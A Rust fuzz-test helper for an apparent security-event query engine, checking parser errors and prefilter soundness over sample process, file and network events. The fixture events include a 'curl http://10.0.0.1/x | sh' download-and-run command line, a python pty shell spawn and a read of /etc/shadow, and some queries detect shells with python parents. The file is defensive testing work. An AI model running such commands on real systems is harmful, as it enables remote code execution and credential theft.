//! Checks shared by the fuzz targets. Each panics (and so reports a crash) when an invariant
//! breaks:
//!
//! * parsing and compiling never panic;
//! * a parse error's span lies inside the query, on character boundaries, and displays;
//! * evaluation of whatever compiles never panics;
//! * the prefilter is sound: whenever a compiled condition matches an event, the prefilter
//!   built from it accepts that event's raw bytes.

use spawnguard_event::reader::{parse_record, RecordReader};
use spawnguard_event::Event;
use spawnguard_query::prefilter::{Prefilter, Req, Scratch};
use spawnguard_query::{compile, CompileOptions, Language, Query};
use std::io::Cursor;
use std::sync::OnceLock;

/// Sample events the fuzzed queries are evaluated over, with their JSON bytes.
pub fn sample_events() -> &'static [(Event, Vec<u8>)] {
    static EVENTS: OnceLock<Vec<(Event, Vec<u8>)>> = OnceLock::new();
    EVENTS.get_or_init(|| {
        let docs = [
            serde_json::json!({
                "@timestamp": "2026-11-24T10:00:00.123Z",
                "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                "host": {"os": {"type": "linux"}},
                "process": {
                    "name": "bash", "executable": "/usr/bin/bash", "pid": 4242,
                    "args": ["bash", "-c", "id; curl http://10.0.0.1/x | sh"], "args_count": 3,
                    "command_line": "bash -c \"id; curl http://10.0.0.1/x | sh\"",
                    "parent": {"name": "python3.11", "executable": "/usr/bin/python3.11",
                               "args": ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]},
                    "interactive": true
                },
                "user": {"id": "0", "name": "root"},
                "destination": {"ip": "10.0.0.1", "port": 443}
            }),
            serde_json::json!({
                "@timestamp": 1_764_000_000_000u64,
                "event.category": "file", "event.action": "creation",
                "process.name": "Python", "process.args": ["/tmp/x y", "-i"],
                "file": {"path": "/etc/shadow", "extension": "conf", "name": "é\"\\/x"},
                "user.id": 1000, "a": {"b.c": [1, 2.5, null, "3"]}
            }),
            serde_json::json!({
                "event": {"category": "network", "type": "connection"},
                "process": {"name": ["sh", "zsh"], "parent": {"name": "node"}},
                "source": {"ip": "::1"}, "message": "segfault at 0 ip sshd",
                "empty": "", "nothing": null, "list": [], "obj": {}
            }),
        ];
        docs.into_iter()
            .map(|d| {
                let bytes = serde_json::to_vec(&d).unwrap_or_default();
                (Event::new(d), bytes)
            })
            .collect()
    })
}

/// Compiles `text` and checks every invariant on the outcome.
pub fn check_query(lang: Language, text: &str) {
    match compile(lang, text, &CompileOptions::default()) {
        Err(e) => {
            assert!(e.offset <= text.len(), "error offset past the end: {e:?}");
            assert!(
                e.offset + e.len <= text.len(),
                "error span past the end: {e:?}"
            );
            assert!(
                text.is_char_boundary(e.offset) && text.is_char_boundary(e.offset + e.len),
                "error span not on character boundaries: {e:?}"
            );
            assert!(e.line >= 1 && e.column >= 1, "bad line/column: {e:?}");
            let _ = e.to_string();
        }
        Ok(q) => {
            for (ev, bytes) in sample_events() {
                check_soundness(&q, ev, bytes);
            }
        }
    }
}


/// Whenever one of the query's conditions matches `ev`, the query's prefilter must accept
/// `bytes` (the raw JSON the event was parsed from).
fn check_soundness(q: &Query, ev: &Event, bytes: &[u8]) {
    let mut any = false;
    for p in q.conditions() {
        any |= p.matches(ev);
        // Each condition on its own must be sound too.
        if p.matches(ev) {
            let pf = Prefilter::new(&[Req::of(p)]);
            assert!(
                pf.may_match(bytes, &mut Scratch::default()),
                "prefilter rejects a matching event\n  condition: {p:?}\n  requirement: {:?}\n  event: {}",
                Req::of(p),
                String::from_utf8_lossy(bytes)
            );
        }
    }
    if any {
        let pf = Prefilter::new(&[q.requirement()]);
        assert!(
            pf.may_match(bytes, &mut Scratch::default()),
            "prefilter rejects a matching event\n  requirement: {:?}\n  event: {}",
            q.requirement(),
            String::from_utf8_lossy(bytes)
        );
    }
}

/// Fixed queries evaluated over every record the reader produces.
fn reader_queries() -> &'static [Query] {
    static QUERIES: OnceLock<Vec<Query>> = OnceLock::new();
    QUERIES.get_or_init(|| {
        let opts = CompileOptions::default();
        let kql = [
            "process.name:(bash or sh or zsh) and process.parent.name:python*",
            "not process.args:(-c or -i) and event.category:*",
            "a:{ b:1 } or user.id < 1000 or destination.ip:10.0.0.0/8 or file.name:\"é\\\"\\\\/x\"",
        ];
        let eql = [
            "process where process.name : (\"bash\", \"sh\") and process.parent.name like~ \"python*\"",
            "any where a.b == 1 or user.id < 1000 or cidrMatch(destination.ip, \"10.0.0.0/8\")",
        ];
        let mut out: Vec<Query> = kql
            .iter()
            .filter_map(|t| compile(Language::Kql, t, &opts).ok())
            .collect();
        let n_kql = out.len();
        // The EQL queries join in once the EQL parser accepts them.
        out.extend(
            eql.iter()
                .filter_map(|t| compile(Language::Eql, t, &opts).ok()),
        );
        eprintln!(
            "event_reader: {n_kql}/{} KQL and {}/{} EQL queries compiled",
            kql.len(),
            out.len() - n_kql,
            eql.len()
        );
        out
    })
}

/// Reads `data` as an input file and checks every record.
pub fn check_reader(data: &[u8]) {
    let mut reader = RecordReader::new("fuzz", Box::new(Cursor::new(data.to_vec())));
    let queries = reader_queries();
    let mut n = 0usize;
    while let Some(rec) = reader.next_record() {
        n += 1;
        if n > 100_000 {
            break;
        }
        let Ok(rec) = rec else {
            continue;
        };
        match parse_record("fuzz", rec.line, rec.bytes) {
            Err(bad) => {
                let _ = bad.to_string();
            }
            Ok(ev) => {
                for q in queries {
                    check_soundness(q, &ev, rec.bytes);
                }
            }
        }
    }
}
